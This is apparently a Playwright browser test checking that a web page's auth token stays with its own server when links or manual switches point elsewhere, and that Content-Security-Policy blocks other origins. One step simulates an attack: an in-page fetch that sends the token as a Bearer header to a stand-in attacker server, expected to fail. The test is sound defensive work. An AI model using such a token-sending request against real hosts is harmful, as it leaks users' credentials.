// servers.mjs drives ferry's page in Chromium as an attacker would use it,
// for TestBrowserTokenStaysWithItsServer (integration/browser_test.go): a
// token entered for the page's own server must never reach another
// server, whether a link names that server (?server=) or the person
// switches servers by hand.
//
//   node e2e/servers.mjs CONFIG.json
//
// CONFIG (written by the Go test):
//   chromium      path of the browser
//   pageUrl       ferry's own page; ferry takes pageToken
//   attackerUrl   a server that records every request, not in --page-server
//   listedUrl     a server that records every request, in --page-server;
//                 it answers ListObjects with no objects when given
//                 listedToken, else UNAUTHENTICATED
//   controlUrl    answers GET /requests?of=attacker|listed with what that
//                 server recorded: {connections, requests: [{method, path,
//                 header}]}
//   pageToken, listedToken
//   screenshot    PNG path of the page asking about the attacker's server
//
// It prints progress lines and, last, "RESULT {}". Any failed expectation
// throws: exit status 1.
import { readFile } from "node:fs/promises";
import { log, open, watch, withBrowser } from "./lib.mjs";

const cfg = JSON.parse(await readFile(process.argv[2], "utf8"));
const attackerOrigin = new URL(cfg.attackerUrl).origin;
const listedOrigin = new URL(cfg.listedUrl).origin;

await withBrowser(cfg.chromium, async (context) => {
  const page = await context.newPage();
  watch(page, "tokens");
  // Record the page's Content-Security-Policy violations, from before its
  // own script runs.
  await page.addInitScript(() => {
    window.__cspBlocked = [];
    document.addEventListener("securitypolicyviolation", (e) => window.__cspBlocked.push(e.blockedURI));
  });
  const cspBlocked = () => page.evaluate(() => window.__cspBlocked);

  // 1. The page's own server, with a token entered for it.
  await open(page, cfg.pageUrl);
  await expectStatus(page, "ok", new URL(cfg.pageUrl).origin);
  await setSetting(page, "#token", cfg.pageToken);
  await expectListed(page);
  log("own server listed with its token");

  // 2. The same tab follows a link naming the attacker's server, which the
  // operator did not list: the page asks, and has sent nothing anywhere
  // near it. Escape is the safe answer: the page stays with its own server
  // and its token, and drops ?server= from the address.
  const attackerLink = `${cfg.pageUrl}?server=${encodeURIComponent(cfg.attackerUrl)}`;
  await open(page, attackerLink);
  await expectPrompt(page, attackerOrigin, true);
  await page.keyboard.press("Escape");
  await expectStatus(page, "ok", new URL(cfg.pageUrl).origin);
  if ((await page.locator("#token").inputValue()) !== cfg.pageToken) throw new Error("declining the link lost the own server's token");
  if (new URL(page.url()).searchParams.has("server")) throw new Error(`declining the link left it in the address: ${page.url()}`);
  await expectListed(page);
  await expectNothingSent("attacker", "after the person declined");
  log("link to the attacker declined with Escape");
  // Followed again, and this time the person looks closer.
  await open(page, attackerLink);
  await expectPrompt(page, attackerOrigin, true);
  await expectStatus(page, "pending", attackerOrigin);
  await page.screenshot({ path: cfg.screenshot });
  await expectNothingSent("attacker", "before the person answered");
  if ((await cspBlocked()).length !== 0) throw new Error(`the page tried to connect on its own: ${await cspBlocked()}`);
  // Even a page made to try (here, a script in it) cannot reach the
  // attacker: the browser's policy blocks the fetch before any connection.
  const tried = await page.evaluate(
    async ([url, token]) => {
      try {
        await fetch(`${url}/ferry.v1.ObjectService/ListObjects`, {
          method: "POST",
          headers: { authorization: `Bearer ${token}`, "content-type": "application/grpc-web+proto" },
          body: new Uint8Array(5),
        });
        return "sent";
      } catch (e) {
        return `blocked: ${e.message}`;
      }
    },
    [cfg.attackerUrl, cfg.pageToken],
  );
  if (!tried.startsWith("blocked")) throw new Error(`a fetch to the attacker with the token was ${tried}`);
  const blocked = await cspBlocked();
  if (!blocked.some((u) => u.startsWith(attackerOrigin))) throw new Error(`the fetch failed but not by the page's policy (violations: ${blocked})`);
  log(`a script's fetch to the attacker: ${tried}`);
  // The person chooses it anyway: the page explains that its policy
  // forbids it, holds no token for it, and sends nothing.
  await page.locator("#server-prompt[open] #server-use").click();
  await expectStatus(page, "blocked", attackerOrigin);
  const explained = await page.locator("#server-status").textContent();
  if (!explained.includes("Content-Security-Policy") || !explained.includes(`--page-server ${attackerOrigin}`)) {
    throw new Error(`the page does not explain why it may not connect: ${explained}`);
  }
  if ((await page.locator("#token").inputValue()) !== "") throw new Error("the attacker's server starts with a token");
  await page.locator("#refresh").click();
  await page.locator("#objects-text", { hasText: "Content-Security-Policy" }).waitFor();
  await expectNothingSent("attacker", "after the person chose it");
  log(`attacker chosen: ${explained}`);

  // 3. A link naming a server the operator listed: asked first, then used
  // without any token (the page's own one stays with its origin).
  await open(page, `${cfg.pageUrl}?server=${encodeURIComponent(cfg.listedUrl)}`);
  await expectPrompt(page, listedOrigin, false);
  await expectNothingSent("listed", "before the person answered");
  await page.locator("#server-prompt[open] #server-use").click();
  await expectStatus(page, "ok", listedOrigin);
  await page.locator("#objects-text", { hasText: "Unauthenticated" }).waitFor();
  if ((await page.locator("#token").inputValue()) !== "") throw new Error("the linked server starts with a token");
  await expectNoAuthorization("after the person chose it from a link");
  log("listed server chosen from a link: asked without a token");

  // 4. By hand: back on the page's own server its token is there and
  // works; switching to the listed server sends it no token; a token
  // entered for it goes to it; switching back restores the own token.
  await open(page, cfg.pageUrl);
  await expectStatus(page, "ok", new URL(cfg.pageUrl).origin);
  if ((await page.locator("#token").inputValue()) !== cfg.pageToken) throw new Error("the own server's token was not kept for it");
  await expectListed(page);
  await setSetting(page, "#server", cfg.listedUrl);
  await expectStatus(page, "ok", listedOrigin);
  if ((await page.locator("#token").inputValue()) !== "") throw new Error("switching servers by hand carried the token along");
  await page.locator("#objects-text", { hasText: "Unauthenticated" }).waitFor();
  await expectNoAuthorization("after switching to it by hand");
  await setSetting(page, "#token", cfg.listedToken);
  await page.locator("#objects-text", { hasText: /^0 objects\.$/ }).waitFor();
  const withToken = (await recorded("listed")).requests.filter((r) => r.header.Authorization);
  if (withToken.length === 0) throw new Error("the token entered for the listed server never reached it");
  await setSetting(page, "#server", "");
  await expectStatus(page, "ok", new URL(cfg.pageUrl).origin);
  if ((await page.locator("#token").inputValue()) !== cfg.pageToken) throw new Error("switching back did not restore the own server's token");
  await expectListed(page);
  log("switched by hand: each server got only its own token");
  console.log("RESULT {}");
});

// setSetting opens Settings, types value into the field sel and leaves it
// (a person's change event).
async function setSetting(p, sel, value) {
  if ((await p.locator("#settings").getAttribute("open")) === null) await p.locator("#settings summary").click();
  await p.locator(sel).fill(value);
  await p.locator(sel).press("Tab");
}

async function expectStatus(p, state, origin) {
  await p.waitForSelector(`#server-status[data-state="${state}"]`);
  const got = await p.locator("#server-status").getAttribute("data-origin");
  if (got !== origin) throw new Error(`the page talks to ${got}, want ${origin}`);
}

// expectListed waits until the object list loaded (the server took the token).
async function expectListed(p) {
  await p.waitForFunction(() => /^\d+ objects?\.$/.test(document.getElementById("objects-text")?.textContent ?? ""));
}

// expectPrompt checks that the page asks whether to use origin, naming it,
// with the policy's refusal explained when the page may not reach it.
async function expectPrompt(p, origin, forbidden) {
  const dialog = p.locator("#server-prompt[open]");
  await dialog.waitFor({ timeout: 30_000 });
  const named = await dialog.locator("#server-prompt-origin").textContent();
  if (!named.startsWith(origin)) throw new Error(`the prompt names ${named}, want ${origin}`);
  const csp = dialog.locator("#server-prompt-csp");
  if (forbidden !== (await csp.isVisible())) throw new Error(`the prompt's policy note is ${forbidden ? "missing" : "shown"} for ${origin}`);
  if (forbidden && !(await csp.textContent()).includes("--page-server")) throw new Error(`the prompt's note does not name --page-server: ${await csp.textContent()}`);
  const focused = await p.evaluate(() => document.activeElement?.id);
  if (focused !== "server-stay") throw new Error(`the prompt focuses #${focused}, want the safe answer #server-stay`);
}

async function recorded(of) {
  const res = await fetch(`${cfg.controlUrl}/requests?of=${of}`);
  if (!res.ok) throw new Error(`control: ${res.status}`);
  return res.json();
}

async function expectNothingSent(of, when) {
  const r = await recorded(of);
  if (r.connections !== 0 || r.requests.length !== 0) {
    throw new Error(`${when}, the ${of} server got ${r.connections} connections and requests ${JSON.stringify(r.requests)}`);
  }
}

// expectNoAuthorization checks that the listed server got requests, none
// with an Authorization header or announcing one in a CORS preflight.
async function expectNoAuthorization(when) {
  const r = await recorded("listed");
  if (!r.requests.some((q) => q.method === "POST")) throw new Error(`${when}, the listed server got no RPC`);
  for (const q of r.requests) {
    const announced = (q.header["Access-Control-Request-Headers"] ?? []).join(",").toLowerCase();
    if (q.header.Authorization || announced.includes("authorization")) {
      throw new Error(`${when}, the listed server got a token: ${JSON.stringify(q)}`);
    }
  }
}
